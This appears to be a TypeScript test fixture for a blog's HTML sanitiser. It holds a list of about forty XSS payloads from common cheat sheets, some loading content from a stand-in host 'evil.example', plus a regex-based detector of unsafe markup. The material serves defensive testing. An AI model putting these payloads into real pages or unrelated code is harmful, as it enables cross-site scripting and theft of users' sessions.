// For the tests of a post's body (the renderer's own, and the stored posts' on the public blog):
// never imported by the site.

// From the usual XSS cheat sheets: scripts, handlers, dangerous URLs, and parser tricks.
export const HOSTILE_POST_BODIES = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<p>ok<script>document.cookie</script></p>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  "<svg onload=alert(1)><circle r=1 /></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<p onclick="alert(1)">click</p>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div onmouseover="alert(1)">hover</div>',
  "<body onload=alert(1)>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<input onfocus=alert(1) autofocus>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>body{display:none}</style>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<<script>script>alert(1)<</script>/script>",
  '<img """><script>alert(1)</script>">',
  '<a href="https://example.org" onmouseover="alert(1)">x</a>',
  "[click](javascript:alert(1))",
  "![img](javascript:alert(1))",
  "Text <img src=x onerror=alert(1)> in markdown",
  "<!--<img src=x onerror=alert(1)>-->",
];

/**
 * What would make sanitised HTML unsafe to put in a page, as the rules broken; none for safe HTML:
 * no scripting or embedding element, no event handler, no executable or protocol-relative URL, no
 * inline style, and no script URL left even when its entities are taken out.
 */
export function unsafeMarkup(html: string): string[] {
  const rules: Array<[string, boolean]> = [
    [
      "an element that runs or embeds something",
      /<\s*(script|style|iframe|object|embed|form|input|button|svg|math|meta|base|link|body|details|video|source|noscript)\b/i.test(html),
    ],
    ["an event handler", /\son[a-z]+\s*=/i.test(html)],
    ["an executable URL", /(href|src)\s*=\s*"?\s*(javascript|vbscript|data):/i.test(html)],
    ["a protocol-relative URL", /(href|src)="\/\//.test(html)],
    ["an inline style", /\sstyle\s*=/i.test(html)],
    ["a script URL behind entities", /javascript:alert/i.test(html.replace(/&[#a-z0-9]+;/gi, ""))],
  ];
  return rules.filter(([, broken]) => broken).map(([rule]) => rule);
}
